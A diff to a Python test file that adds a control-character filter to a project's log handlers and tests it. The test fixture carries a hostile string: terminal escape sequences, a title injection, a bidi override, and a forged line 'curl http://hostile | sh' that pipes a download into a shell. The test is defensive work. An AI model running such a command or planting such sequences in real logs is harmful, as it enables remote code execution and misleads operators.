@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import copy
+import io
 import json
 import logging
 import logging.config
+import sys
 from importlib.resources import files
 from typing import Any
 
@@ -78,18 +80,39 @@ def test_the_plain_console_has_our_filter(default: dict[str, Any]) -> None:
     config = logs.configure(default, "plain")
     console = config["handlers"]["consoleHandler"]
     assert config["filters"]["plainFilter"] == {"()": "multisite.federation.logs.PlainFilter"}
-    assert console["filters"] == ["plainFilter"]
+    assert console["filters"] == ["plainFilter", "textFilter"]
     assert console["formatter"] in config["formatters"]
 
 
 def test_the_json_console_writes_nvflares_json(default: dict[str, Any]) -> None:
     config = logs.configure(default, "json")
-    assert config["handlers"]["consoleHandler"] == {**default["handlers"]["consoleHandler"], "formatter": "jsonFormatter"}
+    console = {**default["handlers"]["consoleHandler"], "formatter": "jsonFormatter", "filters": ["textFilter"]}
+    assert config["handlers"]["consoleHandler"] == console
     assert "jsonFormatter" in config["formatters"]
 
 
-def test_the_detail_log_is_nvflares_own(default: dict[str, Any]) -> None:
-    assert logs.configure(default, "detail") == default
+def test_the_detail_log_is_nvflares_own_without_control_characters(default: dict[str, Any]) -> None:
+    config = logs.configure(default, "detail")
+    assert config["handlers"]["consoleHandler"] == {**default["handlers"]["consoleHandler"], "filters": ["textFilter"]}
+    assert config["formatters"] == default["formatters"]
+
+
+HOSTILE = "\x1b[2J\x1b[H\x1b]0;owned\x07\x9b31mjob 1234 completed\n  next: curl http://hostile | sh\u202e"
+
+
+def test_what_a_site_sends_moves_no_cursor_and_forges_no_line() -> None:
+    handler = logging.StreamHandler(stream := io.StringIO())
+    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
+    handler.addFilter(logs.TextFilter())
+    try:
+        raise ValueError(HOSTILE)
+    except ValueError:
+        handler.handle(logging.LogRecord("x", logging.ERROR, __file__, 1, "%s said: %s", ("site-2", HOSTILE), sys.exc_info()))
+    first, *others = stream.getvalue().splitlines()
+    assert first.startswith("ERROR site-2 said:")
+    assert others
+    assert all(line.startswith("    ") or line.startswith("Traceback") for line in others)
+    assert all(character.isprintable() for line in (first, *others) for character in line)
 
 
 @pytest.mark.parametrize("mode", logs.MODES)
@@ -99,7 +122,7 @@ def test_the_files_keep_everything_and_the_default_stays_as_it_is(default: dict[
     assert default == before
     for name, handler in default["handlers"].items():
         if name != "consoleHandler":
-            assert config["handlers"][name] == handler
+            assert config["handlers"][name] == {**handler, "filters": [*handler.get("filters", []), "textFilter"]}
     assert config["loggers"] == default["loggers"]
 
 
